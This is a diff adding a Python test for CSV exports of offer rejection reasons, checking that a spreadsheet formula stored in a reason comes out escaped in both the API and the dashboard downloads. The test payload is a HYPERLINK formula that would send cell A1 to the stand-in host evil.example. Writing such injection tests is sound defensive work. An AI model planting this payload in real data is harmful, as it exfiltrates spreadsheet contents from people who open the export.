@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import logging
 import re
 import uuid
@@ -395,3 +397,31 @@ def test_idempotency_keys_belong_to_the_caller(api: Api, runtime: Runtime) -> No
     assert [a.status_code for a in (mine, by_admin, by_other_admin)] == [201, 201, 409]  # the same reference
     assert "idempotent-replayed" not in by_admin.headers
     assert "idempotent-replayed" not in by_other_admin.headers
+
+
+# -- CSV downloads -------------------------------------------------------------------------------
+
+
+def test_a_formula_in_a_rejection_reason_reaches_no_spreadsheet(api: Api, runtime: Runtime) -> None:
+    _provider_id, token = api.register_provider()
+    offer = api.submit(token)
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
+    rejected = api.client.post(
+        f"/api/v1/offers/{offer['id']}/decisions",
+        json={"scheme": "be-vl-opleidingscheques", "decision": "rejected", "reason": formula},
+        headers=api.admin,
+    )
+    assert rejected.status_code == 200, rejected.text
+
+    downloads = {
+        "api": api.client.get(
+            "/api/v1/stats", params={"format": "csv", "table": "rejection-reasons"}, headers=api.admin
+        ),
+        "dashboard": api.client.get("/dashboard/csv/rejection-reasons", headers=api.admin),
+    }
+
+    for where, answer in downloads.items():
+        assert answer.status_code == 200, where
+        rows = list(csv.reader(io.StringIO(answer.text)))
+        assert rows[0] == ["reason", "scheme", "count"], where
+        assert rows[1] == ["'" + formula, "be-vl-opleidingscheques", "1"], where
